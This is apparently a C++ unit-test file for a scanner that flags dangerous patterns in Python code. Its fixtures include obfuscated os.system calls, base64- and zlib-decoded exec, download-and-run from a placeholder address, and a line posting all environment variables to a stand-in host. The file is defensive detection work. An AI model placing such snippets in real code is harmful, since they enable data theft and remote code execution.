// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "tests/scanner/text_reading.h"

namespace assay {
namespace {

Values Python(std::string_view text) { return ReadText("x.py", text); }

TEST(Python, SeesAProgramStartedByAnImport) {
  EXPECT_EQ(Values{"import-time:os.system"},
            Python("import os\nos.system('id')\n"));
  EXPECT_EQ(Values{"import-time:os.system"},
            Python("from os import system as s\ns('id')\n"));
  EXPECT_EQ(Values{"import-time:subprocess.run"},
            Python("import subprocess as p\ndef f():\n  p.run(['id'])\nf()\n"));
  EXPECT_EQ(Values{"import-time:os.popen"},
            Python("import os\nclass A:\n  y = os.popen('id').read()\n"));
}

TEST(Python, TellsAFunctionFromAnImport) {
  EXPECT_EQ(Values{"os.system"},
            Python("import os\ndef f():\n  os.system('id')\n"));
  EXPECT_EQ(Values{"os.system"},
            Python("import os\nif __name__ == '__main__':\n"
                   "  os.system('id')\n"));
  EXPECT_EQ(Values{"load-time:os.popen"},
            Python("import os\nclass M:\n  def forward(self, x):\n"
                   "    os.popen('id')\n    return x\n"));
}

TEST(Python, TellsToolsFromOtherPrograms) {
  EXPECT_EQ(Values{"import-time:subprocess.check_output(tool)"},
            Python("import subprocess\n"
                   "subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"));
  EXPECT_EQ(Values{"import-time:os.system"},
            Python("import os\nos.system('git --version; id')\n"));
}

TEST(Python, SeesHiddenNames) {
  for (const char* text :
       {"import os\ngetattr(os, 'sys' + 'tem')('id')\n",
        "__import__('os').system('id')\n",
        "import sys\nsys.modules['os'].system('id')\n",
        "import os\nf = getattr(os, 'metsys'[::-1])\nf('id')\n",
        "eval(\"__import__('os')\").system('id')\n",
        "import os\nos.__dict__['system']('id')\n"}) {
    EXPECT_TRUE(Has(Python(text), "hidden:os.system")) << text;
  }
}

TEST(Python, SeesDecodedCode) {
  for (const char* text :
       {"import base64\nexec(base64.b64decode('cHJpbnQ='))\n",
        "exec(bytes([112, 114]))\n",
        "exec(''.join(chr(i) for i in [112, 114]))\n",
        "import zlib, base64\ndef d(s):\n  return zlib.decompress("
        "base64.b64decode(s))\nexec(d('eJw='))\n"}) {
    EXPECT_TRUE(Has(Python(text), "decoded-exec")) << text;
  }
}

TEST(Python, SeesWhatIsDownloadedAndRun) {
  EXPECT_TRUE(Has(Python("import urllib.request as u\n"
                         "exec(u.urlopen('http://192.0.2.1/x').read())\n"),
                  "download-and-run"));
  EXPECT_TRUE(Has(Python("import urllib.request as u, subprocess\n"
                         "u.urlretrieve('https://example.org/x', '/opt/x')\n"
                         "subprocess.Popen(['/opt/x'])\n"),
                  "download-and-run"));
}

TEST(Python, SeesTheEnvironmentSent) {
  EXPECT_EQ(Values{"environment-sent"},
            Python("import os, requests\n"
                   "requests.post('http://192.0.2.1', "
                   "json=dict(os.environ))\n"));
  EXPECT_FALSE(Has(Python("import os, requests\n"
                          "requests.post('https://example.org', "
                          "headers={'x': os.environ['TOKEN']})\n"),
                   "environment-sent"));
}

TEST(Python, FollowsSourceInsideSource) {
  EXPECT_EQ(Values{"import-time:os.system"},
            Python("exec('import os\\nos.system(\"id\")')\n"));
  EXPECT_EQ(Values{"import-time:os.system"},
            Python("import os\nprint(f\"{os.system('id')}\")\n"));
}

TEST(Python, IgnoresStringsAndComments) {
  EXPECT_EQ(Values{}, Python("'''os.system('id')'''\n# os.system('id')\n"
                             "x = \"exec(\"\n"));
}

TEST(Python, LetsModelsBe) {
  EXPECT_EQ(Values{},
            Python("import os, torch\nfrom torch import nn\n"
                   "os.environ['A'] = 'b'\n"
                   "class M(nn.Module):\n"
                   "  def __init__(self, c):\n"
                   "    self.act = getattr(nn.functional, c.act)\n"
                   "  def forward(self, x):\n"
                   "    return torch.load(os.path.join('a', 'b'))\n"));
}

}  // namespace
}  // namespace assay
